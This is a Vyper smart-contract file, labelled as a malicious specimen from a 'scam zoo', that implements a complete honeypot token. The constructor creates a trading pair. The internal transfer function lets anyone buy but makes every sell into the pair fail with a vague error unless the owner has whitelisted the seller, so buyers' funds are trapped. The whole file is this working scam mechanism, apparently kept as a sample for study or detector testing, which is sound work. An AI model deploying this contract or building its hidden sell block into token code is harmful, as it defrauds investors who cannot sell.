# pragma version 0.4.3
# pragma evm-version cancun
"""
@title Honeypot (scam zoo)
@notice MALICIOUS sandbox specimen. Anyone can buy from the pool, but a transfer INTO the
        pool (a sell) reverts unless the sender is on the owner's whitelist.
"""

interface IRouter:
    def factory() -> address: view
    def WETH() -> address: view

interface IFactory:
    def createPair(tokenA: address, tokenB: address) -> address: nonpayable

event Transfer:
    sender: indexed(address)
    receiver: indexed(address)
    value: uint256

event Approval:
    owner: indexed(address)
    spender: indexed(address)
    value: uint256

name: public(String[64])
symbol: public(String[32])
decimals: public(uint8)
totalSupply: public(uint256)
balanceOf: public(HashMap[address, uint256])
allowance: public(HashMap[address, HashMap[address, uint256]])
owner: public(address)
pair: public(address)
whitelisted: public(HashMap[address, bool])


@deploy
def __init__(name_: String[64], symbol_: String[32], supply: uint256, router: address):
    self.name = name_
    self.symbol = symbol_
    self.decimals = 18
    self.owner = msg.sender
    self.whitelisted[msg.sender] = True
    self.totalSupply = supply
    self.balanceOf[msg.sender] = supply
    log Transfer(sender=empty(address), receiver=msg.sender, value=supply)
    self.pair = extcall IFactory(staticcall IRouter(router).factory()).createPair(
        self, staticcall IRouter(router).WETH())


@internal
def _transfer(sender: address, receiver: address, amount: uint256):
    assert receiver != empty(address), "transfer to zero address"
    if receiver == self.pair:
        assert self.whitelisted[sender], "transfer failed"
    balance: uint256 = self.balanceOf[sender]
    assert balance >= amount, "insufficient balance"
    self.balanceOf[sender] = balance - amount
    self.balanceOf[receiver] += amount
    log Transfer(sender=sender, receiver=receiver, value=amount)


@external
def transfer(receiver: address, amount: uint256) -> bool:
    self._transfer(msg.sender, receiver, amount)
    return True


@external
def transferFrom(sender: address, receiver: address, amount: uint256) -> bool:
    allowed: uint256 = self.allowance[sender][msg.sender]
    if allowed != max_value(uint256):
        assert allowed >= amount, "insufficient allowance"
        self.allowance[sender][msg.sender] = allowed - amount
    self._transfer(sender, receiver, amount)
    return True


@external
def approve(spender: address, amount: uint256) -> bool:
    self.allowance[msg.sender][spender] = amount
    log Approval(owner=msg.sender, spender=spender, value=amount)
    return True


@external
def setWhitelisted(account: address, allowed: bool):
    assert msg.sender == self.owner, "not the owner"
    self.whitelisted[account] = allowed
